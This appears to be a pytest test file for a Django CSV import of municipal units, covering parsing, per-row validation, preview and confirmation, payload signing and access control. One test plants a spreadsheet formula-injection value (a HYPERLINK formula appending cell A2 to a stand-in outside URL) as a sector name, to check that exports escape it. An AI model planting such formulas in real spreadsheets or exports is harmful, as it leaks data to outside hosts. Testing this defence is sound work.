"""Importing units from a CSV file: what the file may look like, what each row may say, the preview
(nothing saved) and the confirmation (everything checked again, one transaction, audited)."""

import datetime as dt
import re
from typing import Any

import pytest
import time_machine
from django.conf import settings
from django.contrib.messages import get_messages
from django.core import signing
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import HttpResponse
from django.http.response import HttpResponseBase
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tests.factories import MunicipalityFactory, UnitFactory, make_coordinator
from tests.test_forms_a11y import Page, assert_errors_are_tied_to_their_inputs
from units import freshness, imports, services
from units.models import AuditEvent, Municipality, Sector, Unit, UnitKind, User

HEADER = "namn;sektor;typ;anmälningsplikt;antal anställda;funktionsbrevlåda"


def csv_bytes(*lines: str, encoding: str = "utf-8", bom: bool = False) -> bytes:
    data = "\r\n".join(lines).encode(encoding)
    return b"\xef\xbb\xbf" + data if bom else data


def upload(content: bytes, name: str = "enheter.csv") -> dict[str, Any]:
    return {"file": SimpleUploadedFile(name, content, content_type="text/csv")}


def import_url(municipality: Municipality) -> str:
    return reverse("units:import", args=[municipality.pk])


def confirm_url(municipality: Municipality) -> str:
    return reverse("units:import_confirm", args=[municipality.pk])


def html_of(response: HttpResponseBase) -> str:
    assert isinstance(response, HttpResponse)
    return response.content.decode()


def payload_of(response: HttpResponseBase) -> str:
    match = re.search(r'name="payload" value="([^"]+)"', html_of(response))
    assert match, "no signed payload on the page"
    return match.group(1)


def text(response: HttpResponseBase) -> str:
    return " ".join(html_of(response).split())


# --- Reading the file -------------------------------------------------------------------------


def test_semicolons_with_a_byte_order_mark() -> None:
    parsed = imports.parse(
        csv_bytes(
            HEADER, "Ängens förskola;Förskola;kommunal;ja;18;angen@kommun.example.se", bom=True
        )
    )
    assert parsed.rows == [
        imports.RawRow(
            line=2,
            values={
                "name": "Ängens förskola",
                "sector": "Förskola",
                "kind": "kommunal",
                "duty_to_report": "ja",
                "headcount": "18",
                "functional_email": "angen@kommun.example.se",
            },
        )
    ]
    assert parsed.ignored_columns == []


def test_commas_without_a_byte_order_mark_and_a_quoted_comma() -> None:
    parsed = imports.parse(
        csv_bytes("namn,sektor,antal anställda", '"Skolan, norra delen",Grundskola,40')
    )
    assert [row.values for row in parsed.rows] == [
        {"name": "Skolan, norra delen", "sector": "Grundskola", "headcount": "40"}
    ]


def test_windows_1252_with_swedish_letters() -> None:
    parsed = imports.parse(csv_bytes(HEADER, "Åsens äldreboende;Förskola;;;7;", encoding="cp1252"))
    (row,) = parsed.rows
    assert row.values["name"] == "Åsens äldreboende"
    assert row.values["sector"] == "Förskola"


def test_utf16_as_excel_writes_unicode_text() -> None:
    content = "\ufeff" + "namn\tsektor\tantal anställda\r\nÖrnens fritidsgård\tFritidsgård\t6\r\n"
    (row,) = imports.parse(content.encode("utf-16-le")).rows
    assert row.values == {"name": "Örnens fritidsgård", "sector": "Fritidsgård", "headcount": "6"}


def test_english_headers_in_any_order_and_case() -> None:
    parsed = imports.parse(
        csv_bytes(
            "Headcount;SECTOR;Name;Type;Duty to report;Functional mailbox", "12;Förskola;X;;;"
        )
    )
    assert parsed.rows[0].values["headcount"] == "12"
    assert parsed.rows[0].values["name"] == "X"
    assert set(parsed.rows[0].values) == {
        "name",
        "sector",
        "kind",
        "duty_to_report",
        "headcount",
        "functional_email",
    }


def test_unknown_columns_are_ignored_and_named() -> None:
    parsed = imports.parse(
        csv_bytes("namn;Kommentar;sektor;antal anställda;Ort", "A;hej;Förskola;3;Jakobsberg")
    )
    assert parsed.ignored_columns == ["Kommentar", "Ort"]
    assert parsed.rows[0].values == {"name": "A", "sector": "Förskola", "headcount": "3"}


def test_blank_lines_are_skipped_and_lines_keep_their_numbers() -> None:
    parsed = imports.parse(csv_bytes(HEADER, "A;Förskola;;;1;", ";;;;;", "", "B;Förskola;;;2;", ""))
    assert [(row.line, row.values["name"]) for row in parsed.rows] == [(2, "A"), (5, "B")]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Filen är tom."),
        (b" \r\n\r\n", "Filen är tom."),
        (csv_bytes(HEADER), "Filen innehåller inga enheter"),
        (csv_bytes("namn;typ", "A;kommunal"), "Filen saknar kolumnerna sektor, antal anställda"),
        (csv_bytes("Ängens förskola;Förskola;18"), "Filen saknar kolumnerna"),
        (csv_bytes("namn;sektor;name;antal anställda", "A;B;C;1"), "finns två gånger"),
        (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 40, "Excel-arbetsbok"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40, "Excel-arbetsbok"),
        (b"%PDF-1.7\n\x00\x01\x02\x03binary", "inte en textfil"),
        (b"namn;sektor\r\n\x00\x00\x00", "inte en textfil"),
    ],
)
def test_files_that_cannot_be_read_are_refused_with_a_reason(content: bytes, message: str) -> None:
    with pytest.raises(imports.ImportFileError) as error:
        imports.parse(content)
    assert message in str(error.value)


def test_too_many_rows_are_refused() -> None:
    lines = [HEADER, *(f"Enhet {n};Förskola;;;1;" for n in range(imports.MAX_ROWS + 1))]
    with pytest.raises(imports.ImportFileError) as error:
        imports.parse(csv_bytes(*lines))
    assert re.search(r"fler än 3\s000 enheter", str(error.value))  # grouped as in Swedish
    lines.pop()
    assert len(imports.parse(csv_bytes(*lines)).rows) == imports.MAX_ROWS


# --- Checking each row ------------------------------------------------------------------------


def check(municipality: Municipality, *lines: str) -> list[imports.CheckedRow]:
    return imports.check(municipality=municipality, rows=imports.parse(csv_bytes(*lines)).rows)


@pytest.mark.django_db
def test_a_good_row_gets_the_models_defaults(municipality: Municipality) -> None:
    first, housing, said_no = check(
        municipality,
        "namn;sektor;typ;anmälningsplikt;antal anställda",
        "Ängens förskola;FÖRSKOLA;;;18",  # sector matched case-insensitively, also Ö
        "Bostadsbolaget;bostadsbolag;bostadsbolag;;2",
        "Nya skolan;Grundskola;kommunal;nej;1 200",
    )
    assert first.status == imports.RowStatus.NEW
    assert first.unit_fields is not None
    assert first.unit_fields["sector"] == municipality.sectors.get(name="Förskola")
    assert first.unit_fields["kind"] == UnitKind.MUNICIPAL
    assert first.unit_fields["duty_to_report"] is True
    assert first.unit_fields["headcount"] == 18
    assert first.unit_fields["functional_email"] == ""
    assert housing.unit_fields is not None
    assert housing.unit_fields["kind"] == UnitKind.HOUSING
    assert housing.unit_fields["duty_to_report"] is False  # as the form's "according to type"
    assert said_no.unit_fields is not None
    assert said_no.unit_fields["duty_to_report"] is False
    assert said_no.unit_fields["headcount"] == 1200


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("row", "message"),
    [
        (";Förskola;;;1;", "Namn: Detta fält måste fyllas i."),
        ("A;;;;1;", "Sektor: Detta fält måste fyllas i."),
        ("A;Förskola;;;;", "Antal anställda: Detta fält måste fyllas i."),
        ("A;Förskola;;;många;", "Antal anställda: Fyll i ett heltal."),
        (
            "A;Förskola;;;-3;",
            "Antal anställda: Kontrollera att detta värde är större än eller lika med 0.",
        ),
        ("A;Förskola;;;1;inte-en-adress", "Funktionsbrevlåda: Fyll i en giltig e-postadress."),
        ("A;Förskola;kommunalt bolag;;1;", "Typ: ”kommunalt bolag” är inte en typ."),
        ("A;Förskola;;kanske;1;", "Anmälningsplikt: Skriv ja eller nej."),
        ("Enhet för 811218-9876;Förskola;;;1;", "personnummer"),
        (f"{'A' * 161};Förskola;;;1;", "Namn: Säkerställ att detta värde har som mest 160 tecken"),
    ],
)
def test_row_errors_are_said_per_column(municipality: Municipality, row: str, message: str) -> None:
    (checked,) = check(municipality, HEADER, row)
    assert checked.status == imports.RowStatus.ERROR
    assert checked.unit_fields is None
    assert any(message in error for error in checked.errors), checked.errors


@pytest.mark.django_db
def test_an_unknown_or_unused_sector_lists_the_valid_ones(municipality: Municipality) -> None:
    services.sector_update(
        actor=None,  # type: ignore[arg-type]
        sector=municipality.sectors.get(name="Elevhälsa"),
        name="Elevhälsa",
        is_active=False,
    )
    unknown, unused = check(municipality, HEADER, "A;Bibliotek;;;1;", "B;elevhälsa;;;1;")
    for row, name in ((unknown, "Bibliotek"), (unused, "elevhälsa")):
        (error,) = row.errors
        assert error.startswith(f"Sektor: Sektorn ”{name}” finns inte. Välj en av: ")
        assert "Bostadsbolag, Civilsamhälle, Familjestöd, Fritidsgård" in error
        assert "Elevhälsa" not in error


@pytest.mark.django_db
def test_existing_units_and_repeated_rows_are_skipped(
    municipality: Municipality, unit_a: Unit
) -> None:
    rows = check(
        municipality,
        HEADER,
        "SOLROSENS FÖRSKOLA;Förskola;;;1;",  # unit_a, Swedish case-insensitively
        "Ängens förskola;Förskola;;;1;",
        "ängens FÖRSKOLA;Förskola;;;1;",
    )
    assert [row.status for row in rows] == [
        imports.RowStatus.EXISTS,
        imports.RowStatus.NEW,
        imports.RowStatus.EXISTS,
    ]
    assert rows[0].duplicate_of is None
    assert rows[2].duplicate_of == 3


@pytest.mark.django_db
def test_a_unit_of_another_municipality_is_no_duplicate(
    municipality: Municipality, unit_x: Unit
) -> None:
    (row,) = check(municipality, HEADER, f"{unit_x.name};Förskola;;;1;")
    assert row.status == imports.RowStatus.NEW


# --- The pages --------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_import_page_explains_the_columns_and_offers_the_template(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    response = client.get(import_url(municipality))
    page = text(response)
    assert response.status_code == 200
    assert "<h1>Importera enheter</h1>" in page
    assert reverse("units:import_template", args=[municipality.pk]) in page
    assert 'enctype="multipart/form-data"' in page
    assert "Förskola" in page  # the municipality's sectors are listed
    assert "personnummer" in page


@pytest.mark.django_db
def test_the_import_page_in_english(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    page = text(client.get(import_url(municipality)))
    assert "<h1>Import units</h1>" in page
    assert "Download the template" in page
    preview = text(
        client.post(import_url(municipality), upload(csv_bytes(HEADER, "A;Förskola;;;1;")))
    )
    assert "Check the units before importing" in preview
    assert "Import 1 unit" in preview
    assert ">New<" in preview


@pytest.mark.django_db
def test_the_list_links_to_the_import(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    assert import_url(municipality) in client.get(reverse("units:list")).content.decode()
    UnitFactory.create(municipality=municipality)
    assert import_url(municipality) in client.get(reverse("units:list")).content.decode()


@pytest.mark.django_db
def test_the_template_reads_back_as_one_good_row(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    response = client.get(reverse("units:import_template", args=[municipality.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "mall.csv" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf" + HEADER.encode())
    parsed = imports.parse(response.content)
    (row,) = imports.check(municipality=municipality, rows=parsed.rows)
    assert row.status == imports.RowStatus.NEW


@pytest.mark.django_db
def test_a_sector_name_like_a_formula_stays_text_in_the_template_and_reads_back(
    client: Client,
) -> None:
    municipality = MunicipalityFactory.create()
    municipality.sectors.update(is_active=False)  # the formula is the only sector in use
    formula = '=HYPERLINK("https://elsewhere.example/?"&A2;"x")'
    Sector.objects.create(municipality=municipality, name=formula)
    client.force_login(make_coordinator(municipality))
    response = client.get(reverse("units:import_template", args=[municipality.pk]))
    # Shown as text by the spreadsheet, as our exports write such a name.
    assert "\r\n'=HYPERLINK" not in response.content.decode("utf-8-sig")
    assert ";'=HYPERLINK(" in response.content.decode("utf-8-sig").replace('"', "")
    (row,) = imports.check(municipality=municipality, rows=imports.parse(response.content).rows)
    assert row.status == imports.RowStatus.NEW
    assert row.unit_fields is not None
    assert row.unit_fields["sector"].name == formula


@pytest.mark.django_db
def test_the_preview_saves_nothing_and_says_each_rows_status(
    client: Client, coordinator: User, municipality: Municipality, unit_a: Unit
) -> None:
    client.force_login(coordinator)
    audited = AuditEvent.objects.count()
    response = client.post(
        import_url(municipality),
        upload(
            csv_bytes(
                "namn;sektor;antal anställda;Kommentar",
                "Ängens förskola;Förskola;18;",
                "Solrosens förskola;Förskola;20;",
                "Kvarnens fritidsgård;Fritidsgård;4;",
                "Ängens förskola;Förskola;18;",
            )
        ),
    )
    page = text(response)
    assert response.status_code == 200
    assert Unit.objects.count() == 1
    assert AuditEvent.objects.count() == audited
    rows = re.findall(r'<tr id="rad-(\d+)">(.*?)</tr>', page)
    statuses = {int(line): row for line, row in rows}
    assert "Ny" in statuses[2]
    assert "Finns redan – hoppas över" in statuses[3]
    assert "Ny" in statuses[4]
    assert "Finns redan – hoppas över" in statuses[5]
    assert "Samma namn som rad 2" in statuses[5]
    assert "Kommentar" in page  # the ignored column is named
    assert "Importera 2 enheter" in page
    assert "error-summary" not in page
    assert payload_of(response)


@pytest.mark.django_db
def test_row_errors_are_summarised_with_links_and_block_the_import(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    response = client.post(
        import_url(municipality),
        upload(
            csv_bytes(
                HEADER,
                "Ängens förskola;Förskola;;;18;",
                "Enhet för 811218-9876;Förskola;;;3;",
                "Kvarnen;Bibliotek;;;4;",
            )
        ),
    )
    html = response.content.decode()
    page = Page(html)
    (summary,) = [e for e in page.elements if "error-summary" in e.attrs.get("class", "")]
    assert "2 rader har fel" in " ".join(summary.text.split())
    links = [e.attrs["href"] for e in page.summary_links()]
    assert links == ["#rad-3", "#rad-4"]
    for link in links:
        assert page.by_id(link.removeprefix("#")).tag == "tr"
    assert 'name="payload"' not in html
    assert "Importera" not in " ".join(e.text for e in page.elements if e.tag == "button")
    assert not Unit.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x00\x01\x02\x03" * 100, "inte en textfil"),
        (b"", "Filen är tom."),
        (csv_bytes("namn;typ", "A;kommunal"), "Filen saknar kolumnerna"),
        (b"namn;sektor;antal anst\xc3\xa4llda\r\n" + b"x" * (imports.MAX_FILE_BYTES), "1 MB"),
    ],
)
def test_a_bad_file_is_a_form_error(
    client: Client, coordinator: User, municipality: Municipality, content: bytes, message: str
) -> None:
    client.force_login(coordinator)
    response = client.post(import_url(municipality), upload(content))
    assert response.status_code == 200
    html = response.content.decode()
    page = assert_errors_are_tied_to_their_inputs(html)
    assert [link.attrs["href"] for link in page.summary_links()] == ["#id_file"]
    assert message in html
    assert not Unit.objects.exists()


@pytest.mark.django_db
def test_no_file_is_a_form_error(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    response = client.post(import_url(municipality), {})
    assert_errors_are_tied_to_their_inputs(response.content.decode())


# --- Confirming -------------------------------------------------------------------------------


def preview(client: Client, municipality: Municipality, *lines: str) -> str:
    response = client.post(import_url(municipality), upload(csv_bytes(*lines)))
    assert response.status_code == 200
    return payload_of(response)


@pytest.mark.django_db
def test_confirming_creates_the_new_units_audited_like_one_by_one(
    client: Client,
    coordinator: User,
    municipality: Municipality,
    unit_a: Unit,
    django_capture_on_commit_callbacks: Any,
) -> None:
    client.force_login(coordinator)
    payload = preview(
        client,
        municipality,
        HEADER,
        "Ängens förskola;Förskola;;;18;angen@kommun.example.se",
        "Solrosens förskola;Förskola;;;20;",
        "Bostadsbolaget Mälarhem;Bostadsbolag;bostadsbolag;;3;",
    )
    generation = freshness.generation(municipality.pk)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(confirm_url(municipality), {"payload": payload})
    assert response.status_code == 302
    assert response["Location"] == reverse("units:list")
    assert [str(m) for m in get_messages(response.wsgi_request)] == ["2 enheter har importerats."]
    created = Unit.objects.get(name="Ängens förskola")
    assert (created.municipality, created.headcount, created.duty_to_report) == (
        municipality,
        18,
        True,
    )
    assert created.functional_email == "angen@kommun.example.se"
    housing = Unit.objects.get(name="Bostadsbolaget Mälarhem")
    assert (housing.kind, housing.duty_to_report) == (UnitKind.HOUSING, False)
    events = AuditEvent.objects.filter(action="unit.created", unit__in=[created, housing])
    assert {event.unit_id for event in events} == {created.pk, housing.pk}
    event = events.get(unit=created)
    assert event.actor == coordinator
    assert event.municipality == municipality
    assert event.target_id == created.pk
    assert event.changes["headcount"] == [None, 18]
    assert event.changes["sector"] == [None, "Förskola"]
    # The dashboard and the unit table are drawn afresh at once.
    assert freshness.generation(municipality.pk) != generation


@pytest.mark.django_db
def test_importing_the_same_file_twice_creates_nothing_the_second_time(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    lines = (HEADER, "Ängens förskola;Förskola;;;18;", "Kvarnen;Fritidsgård;;;4;")
    payload = preview(client, municipality, *lines)
    client.post(confirm_url(municipality), {"payload": payload})
    assert Unit.objects.count() == 2
    audited = AuditEvent.objects.count()
    again = client.post(confirm_url(municipality), {"payload": payload})  # a second click
    assert again.status_code == 302
    said = [str(message) for message in get_messages(again.wsgi_request)]
    assert said == [
        "2 enheter har importerats.",
        "Inga nya enheter importerades: alla fanns redan.",
    ]
    assert Unit.objects.count() == 2
    assert AuditEvent.objects.count() == audited
    page = text(client.post(import_url(municipality), upload(csv_bytes(*lines))))
    assert page.count("Finns redan – hoppas över") == 2
    assert 'name="payload"' not in page


@pytest.mark.django_db
@pytest.mark.parametrize("how", ["changed", "garbage", "empty", "another municipality"])
def test_a_tampered_payload_is_refused(
    client: Client,
    coordinator: User,
    municipality: Municipality,
    other_municipality: Municipality,
    how: str,
) -> None:
    client.force_login(coordinator)
    payload = preview(client, municipality, HEADER, "Ängens förskola;Förskola;;;18;")
    if how == "changed":
        value, signature = payload.rsplit(":", 1)
        payload = f"{value[:-2]}xx:{signature}"
    elif how == "garbage":
        payload = "inte en signerad text"
    elif how == "empty":
        payload = ""
    else:
        # Signed for the other municipality: not accepted here.
        payload = imports.sign(
            municipality_id=other_municipality.pk,
            rows=imports.parse(csv_bytes(HEADER, "Ängens förskola;Förskola;;;18;")).rows,
        )
    response = client.post(confirm_url(municipality), {"payload": payload})
    assert response.status_code == 400
    assert "Ladda upp filen igen" in response.content.decode()
    assert not Unit.objects.exists()


@pytest.mark.django_db
def test_an_expired_preview_is_refused(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    payload = preview(client, municipality, HEADER, "Ängens förskola;Förskola;;;18;")
    with time_machine.travel(timezone.now() + dt.timedelta(seconds=imports.PAYLOAD_MAX_AGE + 60)):
        client.force_login(coordinator)
        response = client.post(confirm_url(municipality), {"payload": payload})
    assert response.status_code == 400
    assert not Unit.objects.exists()


@pytest.mark.django_db
def test_a_sector_taken_out_of_use_after_the_preview_stops_the_whole_import(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    payload = preview(
        client, municipality, HEADER, "Ängens förskola;Förskola;;;18;", "Kvarnen;Fritidsgård;;;4;"
    )
    services.sector_update(
        actor=coordinator,
        sector=municipality.sectors.get(name="Fritidsgård"),
        name="Fritidsgård",
        is_active=False,
    )
    response = client.post(confirm_url(municipality), {"payload": payload})
    page = text(response)
    assert response.status_code == 200
    assert "har ändrats sedan förhandsgranskningen" in page
    assert "Sektorn ”Fritidsgård” finns inte" in page
    assert 'href="#rad-3"' in page
    assert 'name="payload"' not in page
    assert not Unit.objects.exists()


@pytest.mark.django_db
def test_a_unit_created_after_the_preview_is_skipped(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    payload = preview(
        client, municipality, HEADER, "Ängens förskola;Förskola;;;18;", "Kvarnen;Fritidsgård;;;4;"
    )
    UnitFactory.create(municipality=municipality, name="Kvarnen", headcount=9)
    response = client.post(confirm_url(municipality), {"payload": payload})
    assert response.status_code == 302
    assert [str(m) for m in get_messages(response.wsgi_request)] == ["1 enhet har importerats."]
    assert Unit.objects.get(name="Kvarnen").headcount == 9  # untouched


@pytest.mark.django_db
def test_a_name_the_database_folds_otherwise_does_not_block_the_import(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    """PostgreSQL's LOWER folds "İ" to "i", Python's casefold does not: the unique constraint
    on the lowered name then refused what the preview called new, at every confirmation."""
    UnitFactory.create(municipality=municipality, name="insikt")
    client.force_login(coordinator)
    payload = preview(
        client, municipality, HEADER, "İnsikt;Förskola;;;18;", "Kvarnen;Fritidsgård;;;4;"
    )
    response = client.post(confirm_url(municipality), {"payload": payload})
    assert response.status_code == 302
    assert Unit.objects.filter(name="Kvarnen").exists()
    with connection.cursor() as cursor:
        cursor.execute("SELECT LOWER(%s) = LOWER(%s)", ["İnsikt", "insikt"])
        (same_in_the_database,) = cursor.fetchone()
    # Skipped where the database calls the names the same (PostgreSQL), created where not.
    assert Unit.objects.filter(name="İnsikt").exists() is not bool(same_in_the_database)


@pytest.mark.django_db
def test_the_service_refuses_rows_with_errors_and_saves_nothing(
    coordinator: User, municipality: Municipality
) -> None:
    rows = imports.parse(csv_bytes(HEADER, "A;Förskola;;;1;", "B;Bibliotek;;;1;")).rows
    with pytest.raises(imports.ImportRowsError) as error:
        services.units_import(actor=coordinator, municipality=municipality, rows=rows)
    assert [row.line for row in error.value.rows if row.errors] == [3]
    assert not Unit.objects.exists()


# --- Access and cost --------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("persona", "expected"),
    [
        ("anonymous", 302),
        ("manager_a", 404),
        ("observer", 403),
        ("other_coordinator", 404),
        ("coordinator", None),
        ("superuser", None),
    ],
)
def test_only_the_municipalitys_coordinator_may_import(
    client: Client,
    request: pytest.FixtureRequest,
    municipality: Municipality,
    persona: str,
    expected: int | None,
) -> None:
    if persona != "anonymous":
        client.force_login(request.getfixturevalue(persona))
    payload = imports.sign(
        municipality_id=municipality.pk,
        rows=imports.parse(csv_bytes(HEADER, "Ängens förskola;Förskola;;;18;")).rows,
    )
    answers = [
        client.get(import_url(municipality)),
        client.get(reverse("units:import_template", args=[municipality.pk])),
        client.post(import_url(municipality), upload(csv_bytes(HEADER, "A;Förskola;;;1;"))),
        client.post(confirm_url(municipality), {"payload": payload}),
    ]
    if expected is None:
        assert [answer.status_code for answer in answers] == [200, 200, 200, 302]
        assert Unit.objects.filter(name="Ängens förskola").exists()
        return
    assert [answer.status_code for answer in answers] == [expected] * 4
    if expected == 302:
        assert all(answer["Location"].startswith(reverse("account_login")) for answer in answers)
    assert not Unit.objects.filter(name="Ängens förskola").exists()


def rows_file(count: int) -> bytes:
    return csv_bytes(HEADER, *(f"Enhet {n:03d};Förskola;;;{n};" for n in range(count)))


def count_queries(client: Client, method: str, url: str, data: dict[str, Any]) -> int:
    with CaptureQueriesContext(connection) as queries:
        response = getattr(client, method)(url, data)
    assert response.status_code in (200, 302)
    return len(queries)


@pytest.mark.django_db
def test_preview_and_confirm_cost_the_same_for_3_and_30_rows(
    client: Client, coordinator: User, municipality: Municipality
) -> None:
    client.force_login(coordinator)
    client.get(import_url(municipality))  # the first request of a session also records it
    costs = {}
    for count in (3, 30):
        Unit.objects.all().delete()
        AuditEvent.objects.filter(action="unit.created").delete()
        previewed = count_queries(
            client, "post", import_url(municipality), upload(rows_file(count))
        )
        payload = preview(client, municipality, *rows_file(count).decode().split("\r\n"))
        confirmed = count_queries(client, "post", confirm_url(municipality), {"payload": payload})
        assert Unit.objects.count() == count
        costs[count] = (previewed, confirmed)
    assert costs[3] == costs[30], costs


@pytest.mark.django_db
def test_the_service_costs_the_same_for_3_and_30_rows(
    coordinator: User, municipality: Municipality
) -> None:
    costs = {}
    for count in (3, 30):
        Unit.objects.all().delete()
        rows = imports.parse(rows_file(count)).rows
        with CaptureQueriesContext(connection) as queries:
            created = services.units_import(actor=coordinator, municipality=municipality, rows=rows)
        assert len(created) == count
        assert AuditEvent.objects.filter(action="unit.created", unit__in=created).count() == count
        costs[count] = len(queries)
    assert costs[3] == costs[30], costs


def test_the_signed_payload_is_bound_to_its_salt() -> None:
    rows = [imports.RawRow(line=2, values={"name": "A"})]
    signed = imports.sign(municipality_id=1, rows=rows)
    assert imports.unsign(municipality_id=1, payload=signed) == rows
    with pytest.raises(signing.BadSignature):
        signing.loads(signed)  # not readable without the import's own salt
